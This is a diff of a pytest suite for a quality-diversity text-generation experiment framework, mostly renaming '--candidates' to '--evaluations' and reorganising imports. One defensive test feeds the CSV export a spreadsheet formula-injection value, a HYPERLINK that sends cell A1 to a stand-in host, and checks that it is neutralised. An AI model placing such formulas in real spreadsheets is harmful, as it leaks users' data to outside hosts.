@@ -16,26 +16,29 @@ import pytest
 from domains.opinions import OPINIONS
 from domains.poetry.poetry import GENRES, TONES
 from domains.stories import MODEL, STORIES
-from experiments import (
-    benchmark_language,
-    discover_axes,
-    qdaif_table,
-    qdaif_writing,
-    resuming,
-    tables,
-    writing_report,
-    writing_setup,
-)
-from experiments.command import run_main
+from experiments.benchmarks import language as benchmark_language
+from experiments.writing import axes as discover_axes
+from experiments.writing import qdaif as qdaif_writing
+from experiments.writing import report as writing_report
+from experiments.writing import table as qdaif_table
+from experiments.writing.arguments import Method, writing_of
+from qdfeedback import tables
+from qdfeedback.arguments import arguments_of, resumed
+from qdfeedback.commands import run_main
+from qdfeedback.encoders.attributes import Attribute
 from qdfeedback.history import History
+from qdfeedback.learning.proposed import choose
 from qdfeedback.models.ledger import Ledger, SpendCapError
 from qdfeedback.run_settings import read_settings, write_settings
+from qdfeedback.stopping import InVain
+from qdfeedback.text_map import write_texts
 from qdfeedback.types import Elites
+from qdfeedback.writing import begun_from_nothing, bins_of
 from tests.models.faulty import Faulty, asked, serving
 from tests.stopping import killed_on_its_way, stopped_on_its_way
 
-TINY = ("--candidates", "23", "--batch-size", "10", "--first", "10")
-METHODS = tuple(method for method in get_args(qdaif_writing.Method) if method != "asked")  # which needs a writer
+TINY = ("--evaluations", "23", "--batch-size", "10", "--seeded", "10")
+METHODS = tuple(method for method in get_args(Method) if method != "asked")  # which needs a writer
 NAMES = ("quality", "genre", "ending")
 
 
@@ -85,13 +88,13 @@ def test_lmx_near_on_stories(written: Path) -> None:
     [pytest.param(one, 63, marks=pytest.mark.slow) for one in METHODS],
 )
 def test_every_method_on_stories(method: str, candidates: int, tmp_path: Path, capsys) -> None:
-    write(tmp_path / "r", "--method", method, "--candidates", str(candidates))
+    write(tmp_path / "r", "--method", method, "--evaluations", str(candidates))
     check_run(tmp_path / "r", method, candidates, capsys.readouterr().out)
 
 
 def check_run(run: Path, method: str, candidates: int, said: str) -> None:
     summary = summary_of(run)
-    assert summary["candidates"] == candidates
+    assert summary["evaluations"] == candidates
     assert 3 < summary["elites"] <= summary["cells"] == 100
     assert 0 < summary["qd_score"] <= summary["elites"]
     assert 0 < summary["true_qd_score"] <= summary["true_qd_score_all"] + 1e-9
@@ -124,9 +127,9 @@ def test_one_axis_of_two(tmp_path: Path) -> None:
 
 @pytest.mark.slow
 def test_a_zero_shot_start_needs_no_seeds(tmp_path: Path) -> None:
-    arguments = ("--domain", "opinions", "--temperature", "0.7", "--candidates", "26")
+    arguments = ("--domain", "opinions", "--temperature", "0.7", "--evaluations", "26")
     summary = write(tmp_path / "r", "--begin", "zero-shot", *arguments)
-    assert summary["candidates"] == 26
+    assert summary["evaluations"] == 26
     found = rows(tmp_path / "r", ("quality", "sentiment"))
     assert [str(one) for one in found["origin"][5::10]] == ["initial", "few-shot", "lmx-near"]
     assert set(found["solution"][:10]) & set(OPINIONS.seeds) == set()
@@ -144,9 +147,9 @@ def test_killed_and_resumed_it_ends_as_one_that_was_not(
     method: str, candidates: int, written: Path, tmp_path: Path
 ) -> None:
     """By SIGKILL in the middle, or else stopped; no reply is computed twice, and every text and score is the same."""
-    arguments = ("--method", method, "--candidates", str(candidates))
+    arguments = ("--method", method, "--evaluations", str(candidates))
     if candidates > 23:
-        killed_on_its_way("experiments.qdaif_writing", (*TINY, *arguments), tmp_path / "killed")
+        killed_on_its_way("experiments.writing.qdaif", (*TINY, *arguments), tmp_path / "killed")
     else:
         with stopped_on_its_way():
             write(tmp_path / "killed", *arguments)
@@ -193,7 +196,7 @@ def prices(tmp_path: Path) -> Path:
 
 
 def test_poems_by_genre_and_tone(server: Faulty, tmp_path: Path) -> None:
-    arguments = ("--domain", "poetry", "--method", "guided", "--writer", f"m@{server.url}", "--candidates", "14")
+    arguments = ("--domain", "poetry", "--method", "guided", "--writer", f"m@{server.url}", "--evaluations", "14")
     summary = write(tmp_path / "r", *arguments)
     assert (summary["cells"], summary["highest"]) == (25, 10.0)
     assert summary["elites"] >= 3
@@ -210,26 +213,26 @@ def test_poems_by_genre_and_tone(server: Faulty, tmp_path: Path) -> None:
 @pytest.mark.slow
 def test_a_pool_and_the_papers_baselines_work_on_categories(server: Faulty, tmp_path: Path) -> None:
     for method in ("novelty", "asked", "targeted", "seed-rewrite"):
-        arguments = ("--domain", "poetry", "--method", method, "--writer", f"m@{server.url}", "--candidates", "12")
-        assert write(tmp_path / method, *arguments, "--batch-size", "1")["candidates"] == 12
+        arguments = ("--domain", "poetry", "--method", method, "--writer", f"m@{server.url}", "--evaluations", "12")
+        assert write(tmp_path / method, *arguments, "--batch-size", "1")["evaluations"] == 12
     asked_ = "".join(asked(one) for one in server.seen)
     assert "Write a poem of outstanding quality.\n" in asked_
     assert re.search(r"Write a poem of outstanding quality\. It is \w+ and \w+\.\n", asked_)
 
 
 def test_a_writer_that_never_says_anything_ends_the_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(writing_setup, "MOST_IN_VAIN", 10)
+    monkeypatch.setattr(qdaif_writing, "InVain", lambda _: InVain(10))
 
     def silent(body: dict) -> str:
         return poet(body) if "Answer with" in asked(body) else ""
 
-    arguments = ("--domain", "poetry", "--method", "rewrite", "--candidates", "40")
+    arguments = ("--domain", "poetry", "--method", "rewrite", "--evaluations", "40")
     in_vain = pytest.raises(RuntimeError, match="10 candidates in a row without a score; the last: empty")
     with serving(Faulty(text=silent, ignores=("logprobs", "response_format"))) as faulty, in_vain:
         write(tmp_path / "r", *arguments, *to(faulty))
 
 
-POEMS = ("--domain", "poetry", "--method", "asked", "--candidates", "12")
+POEMS = ("--domain", "poetry", "--method", "asked", "--evaluations", "12")
 MUTE = ("logprobs", "response_format")  # that the server ignores
 
 
@@ -239,7 +242,7 @@ def test_what_a_server_does_not_take_is_said_and_stands_in_the_settings(tmp_path
             write(tmp_path / "r", *POEMS, *to(faulty))
         (lacking,) = read_settings(tmp_path / "r")["not_kept"].values()
         assert [one.split(" ")[0] for one in lacking] == ["stop", "seed"]
-        known = resuming.arguments_of(tmp_path / "r", lists=writing_setup.TUPLES, paths=writing_setup.PATHS)
+        known = arguments_of(qdaif_writing.Args, tmp_path / "r")
         assert qdaif_writing.Args(**known).domain == "poetry"  # what was noted is no argument
 
 
@@ -263,7 +266,7 @@ def test_a_run_that_fails_for_a_reason_of_the_servers_stops_and_names_it(finish,
     bad = Faulty(text=poet, ignores=MUTE, ends=lambda body: finish if writes(body) and body["seed"] % 4 else "stop")
     most = pytest.raises(RuntimeError, match=rf"\d+ of \d+ texts came to nothing for one reason, m at .*: {reason}")
     with serving(bad), most:
-        write(tmp_path / "r", "--domain", "poetry", "--method", "asked", "--candidates", "60", *to(bad))
+        write(tmp_path / "r", "--domain", "poetry", "--method", "asked", "--evaluations", "60", *to(bad))
 
 
 @pytest.mark.xdist_group("written")
@@ -280,7 +283,7 @@ def test_axes_of_the_users_own_are_escaped_and_kept(server: Faulty, tmp_path: Pa
     file = tmp_path / "attributes.json"
     axes = [{"name": f"a{i}", "question": "What?", "answers": ["<b>one", "two & three"]} for i in range(2)]
     file.write_text(json.dumps(axes))
-    arguments = ("--attributes", str(file), *to(server), "--method", "asked", "--candidates", "15")
+    arguments = ("--attributes", str(file), *to(server), "--method", "asked", "--evaluations", "15")
     summary = write(tmp_path / "r", *arguments)
     assert "true_qd_score" not in summary  # nobody knows it
     page = (tmp_path / "r" / "texts.html").read_text()
@@ -298,17 +301,17 @@ def test_a_file_that_holds_no_attributes_is_named(content: str, tmp_path: Path) 
 
 
 def test_nobody_knows_the_truth_about_other_peoples_stories(server: Faulty, tmp_path: Path) -> None:
-    summary = write(tmp_path / "r", *to(server), "--method", "asked", "--candidates", "15")
+    summary = write(tmp_path / "r", *to(server), "--method", "asked", "--evaluations", "15")
     assert "true_qd_score" not in summary
     assert summary["readable"] < 0.5
 
 
 def test_a_model_that_cannot_be_opened_leaves_no_folder_in_the_way(server: Faulty, tmp_path: Path) -> None:
-    arguments = ("--method", "asked", "--candidates", "12", "--domain", "poetry")
+    arguments = ("--method", "asked", "--evaluations", "12", "--domain", "poetry")
     with pytest.raises(OSError, match="nowhere"):
         write(tmp_path / "r", *arguments, "--writer", str(tmp_path / "nowhere"))
     assert not list(tmp_path.glob("r/*"))
-    assert write(tmp_path / "r", *arguments, *to(server))["candidates"] == 12
+    assert write(tmp_path / "r", *arguments, *to(server))["evaluations"] == 12
 
 
 def test_why_a_judge_says_nothing_is_shown(tmp_path: Path) -> None:
@@ -319,7 +322,7 @@ def test_why_a_judge_says_nothing_is_shown(tmp_path: Path) -> None:
     def silent(body: dict) -> str:
         return "hm" if "Answer with" in asked(body) else poet(body)
 
-    arguments = ("--domain", "poetry", "--method", "asked", "--candidates", "12")
+    arguments = ("--domain", "poetry", "--method", "asked", "--evaluations", "12")
     with serving(Faulty(text=mumble, ignores=("logprobs", "response_format"))) as faulty:
         summary = write(tmp_path / "r", *arguments, *to(faulty))
     assert set(summary["unmeasured"]) <= {"not one of the answers", "genre: unclear answers"}
@@ -334,18 +337,18 @@ def test_a_first_text_that_no_judge_can_place_ends_the_run_with_the_reason(tmp_p
     def mumble(body: dict) -> str:
         return "hm" if "Answer with one of" in asked(body) else poet(body)
 
-    why = pytest.raises(RuntimeError, match=r"none of the first texts has a place.*not one of the answers")
+    why = pytest.raises(RuntimeError, match=r"none of the first candidates has a place.*not one of the answers")
     with serving(Faulty(text=mumble, ignores=("logprobs", "response_format"))) as faulty, why:
-        write(tmp_path / "r", "--domain", "poetry", "--method", "guided", "--candidates", "12", *to(faulty))
+        write(tmp_path / "r", "--domain", "poetry", "--method", "guided", "--evaluations", "12", *to(faulty))
     assert not list((tmp_path / "r").glob("checkpoints/*"))
 
 
 def test_what_a_run_that_goes_on_may_do_otherwise(server: Faulty, tmp_path: Path) -> None:
-    arguments = ("--domain", "poetry", "--method", "asked", "--candidates", "12")
+    arguments = ("--domain", "poetry", "--method", "asked", "--evaluations", "12")
     write(tmp_path / "r", *arguments, *to(server))
     resume = ["--run", str(tmp_path / "r"), "--resume"]
-    with pytest.raises(ValueError, match="was begun with candidates 12, which cannot change"):
-        qdaif_writing.main([*resume, "--candidates", "40"])
+    with pytest.raises(ValueError, match="was begun with evaluations 12, which cannot change"):
+        qdaif_writing.main([*resume, "--evaluations", "40"])
     (tmp_path / "r" / "summary.json").unlink()
     qdaif_writing.main([*resume, "--timeout", "60", "--concurrency", "2"])
     (tmp_path / "r" / "summary.json").unlink()
@@ -364,12 +367,11 @@ def test_prices_that_are_not_there_leave_no_folder_in_the_way(tmp_path: Path) ->
 
 
 def test_a_resumed_run_has_the_first_texts_of_its_history(server: Faulty, tmp_path: Path) -> None:
-    arguments = ("--domain", "poetry", "--method", "lmx-near", "--begin", "zero-shot", "--candidates", "12")
+    arguments = ("--domain", "poetry", "--method", "lmx-near", "--begin", "zero-shot", "--evaluations", "12")
     write(tmp_path / "r", *arguments, *to(server))
-    args = writing_setup.saved(qdaif_writing.Args(run=tmp_path / "r"))
+    args = resumed(qdaif_writing.Args(run=tmp_path / "r", resume=True))
     history = History(tmp_path / "r" / "history.arrows", ("quality", "genre", "tone"))
-    writing = writing_setup.writing_of(args)
-    again = writing_setup.with_first_texts(args, writing, None, history)  # nobody is asked
+    again = begun_from_nothing(writing_of(args), None, np.arange(10), history)  # nobody is asked
     assert again.seeds == tuple(str(text) for text in history.sample("solution")[:10])
 
 
@@ -377,14 +379,14 @@ def test_a_cap_that_cannot_hold_for_all_seeds_is_refused(server: Faulty, tmp_pat
     prices = tmp_path / "prices.toml"
     prices.write_text("[m]\nprompt = 1\ncompletion = 1\n")
     run = ("--run", str(tmp_path / "r"), "--seed", "0", "1", "--workers", "1")
-    arguments = ("--domain", "poetry", "--method", "asked", *to(server), "--candidates", "12")
+    arguments = ("--domain", "poetry", "--method", "asked", *to(server), "--evaluations", "12")
     qdaif_writing.main([*run, *arguments])
     with pytest.raises(ValueError, match="keep their replies apart"):
         qdaif_writing.main([*run, "--resume", "--cap", "5", "--prices", str(prices)])
 
 
 def test_the_cap_stops_a_run_and_a_higher_one_goes_on(server: Faulty, prices: Path, tmp_path: Path) -> None:
-    common = ("--domain", "poetry", "--method", "rewrite", *to(server), "--candidates", "13")
+    common = ("--domain", "poetry", "--method", "rewrite", *to(server), "--evaluations", "13")
     paid = ("--prices", str(prices), "--concurrency", "1")
     with pytest.raises(SpendCapError, match=r"stopped by --cap after \d+ texts"):
         write(tmp_path / "r", *common, *paid, "--cap", "2200")
@@ -396,7 +398,7 @@ def test_the_cap_stops_a_run_and_a_higher_one_goes_on(server: Faulty, prices: Pa
     assert len(server.seen) == seen
     qdaif_writing.main(["--run", str(tmp_path / "r"), "--resume", "--cap", "1000000"])
     summary = summary_of(tmp_path / "r")
-    assert summary["candidates"] == 13
+    assert summary["evaluations"] == 13
     assert read_settings(tmp_path / "r")["cap"] == 1000000  # it counts the next time too
     everything = Ledger(tmp_path / "r" / "replies.db").totals()
     assert everything.requests + everything.failures == len(server.seen)  # none twice
@@ -410,7 +412,7 @@ def test_a_cap_that_ends_the_seeds_judging_is_a_cap(server: Faulty, prices: Path
 
 
 def test_seeds_share_a_cap_and_are_resumed_together(server: Faulty, prices: Path, tmp_path: Path) -> None:
-    common = ("--domain", "poetry", "--method", "rewrite", *to(server), "--candidates", "21")
+    common = ("--domain", "poetry", "--method", "rewrite", *to(server), "--evaluations", "21")
     run = ("--run", str(tmp_path / "r"), "--seed", "0", "1", "--workers", "1")
     with pytest.raises(SpendCapError):
         qdaif_writing.main([*common, *run, "--prices", str(prices), "--cap", "2200"])
@@ -430,7 +432,7 @@ def test_seeds_share_a_cap_and_are_resumed_together(server: Faulty, prices: Path
         (("--temperature", "-1"), "--temperature must be at least 0, got -1.0"),
         (("--axes", "colour"), "--axes of stories are genre, ending; got 'colour'"),
         (("--cap", "3"), "--cap needs --prices"),
-        (("--candidates", "3"), "--candidates must be above 10"),
+        (("--evaluations", "3"), "--evaluations must be above 10"),
         (("--axes", "genre", "genre"), "--axes: one or two of"),
         (
             ("--domain", "poetry", "--writer", "m@http://x/v1", "--method", "directional"),
@@ -503,23 +505,23 @@ def test_axes_are_proposed_and_chosen(tmp_path: Path, capsys) -> None:
     assert {"Which genre is this story closer to?"} <= questions
     assert "| yes |" in said
     args = qdaif_writing.Args(attributes=tmp_path / "axes" / "attributes.json", axes=(kept[0]["name"],))
-    assert writing_setup.writing_of(args).axes[0].question == kept[0]["question"]
+    assert writing_of(args).axes[0].question == kept[0]["question"]
 
 
 def test_a_question_that_repeats_or_disagrees_is_left_out(rng: np.random.Generator) -> None:
     values = rng.random((300, 1))
     features = np.column_stack([values, 1 - values, rng.random(300), np.full(300, 0.5), rng.random(300)])
-    attributes = [discover_axes.Attribute(f"a{i}", f"q{i}?") for i in range(5)]
+    attributes = [Attribute(f"a{i}", f"q{i}?") for i in range(5)]
     rows_ = np.array([rng.choice(300, 3, replace=False) for _ in range(400)])
     near = np.abs(values[rows_[:, 0], 0] - values[rows_[:, 1], 0]) < np.abs(
         values[rows_[:, 0], 0] - values[rows_[:, 2], 0]
     )
     triplets = np.where(near[:, None], rows_, rows_[:, [0, 2, 1]])
-    found = discover_axes.choose(attributes, features, triplets, discover_axes.Args())
+    found = choose(attributes, features, triplets, least_spread=0.5, most_alike=0.7)
     kept = {one.attribute.name for one in found if one.kept}
     assert len(kept & {"a0", "a1"}) == 1  # each repeats the other
     assert kept <= {"a0", "a1"}  # the others say nothing about what people see
-    without = discover_axes.choose(attributes, features, triplets[:0], discover_axes.Args())
+    without = choose(attributes, features, triplets[:0], least_spread=0.5, most_alike=0.7)
     assert {one.attribute.name for one in without if one.kept} >= {"a2", "a4"}
     assert "a3" not in {one.attribute.name for one in without if one.kept}  # always the same answer
 
@@ -537,11 +539,11 @@ def test_the_benchmark_compares_like_with_like(tmp_path: Path, capsys) -> None:
 
 
 def test_texts_in_the_table_of_elites_are_no_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
-    bins = writing_setup.bins(STORIES)
+    bins = bins_of(STORIES)
     texts = np.array(['=HYPERLINK("http://x.example/?"&A1)', "+1-1", "@SUM(1)", "A plain one."])
     measures = np.zeros((4, len(bins.dims))) + np.arange(4)[:, None]
     found = Elites(np.arange(4), texts, np.array([-0.25, 1, 1, 1]), measures)
-    writing_report.write_texts(tmp_path, STORIES, bins, found)
+    write_texts(tmp_path, STORIES, bins, found)
     with (tmp_path / "elites.csv").open(newline="") as file:
         rows = list(csv.DictReader(file))
     assert [row["text"] for row in rows] == [f"'{text}" for text in texts[:3]] + ["A plain one."]
